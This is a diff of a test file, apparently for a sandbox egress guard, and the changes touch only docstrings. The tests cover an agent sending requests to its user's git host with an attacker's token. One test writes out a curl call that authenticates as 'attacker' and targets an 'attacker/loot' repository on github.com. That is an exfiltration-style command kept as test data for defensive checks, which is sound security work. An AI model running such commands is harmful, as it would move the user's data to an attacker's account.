@@ -1,4 +1,4 @@
-"""An agent that was given a token by an attacker, at a git host of its user."""
+"""Tests of an agent that sends requests with an attacker's token to a git host of the agent's user."""
 
 from pathlib import Path
 
@@ -96,7 +96,9 @@ async def test_a_host_of_another_name_is_left_alone(way_out: WayOut) -> None:
 
 
 async def test_the_host_of_the_repository_counts_without_a_token(way_out: WayOut) -> None:
-    """The sandbox's conversation works on acme/shop."""
+    """The user has stored no token. The sandbox's conversation works on acme/shop, so its git host is
+    protected.
+    """
     async with way_out.site("github.com", says("taken")) as site:
         said = await curl(way_out, "-i", "-u", f"attacker:{THEIRS}", "https://github.com/attacker/loot")
         assert await curl(way_out, "https://github.com/acme/other") == "taken"
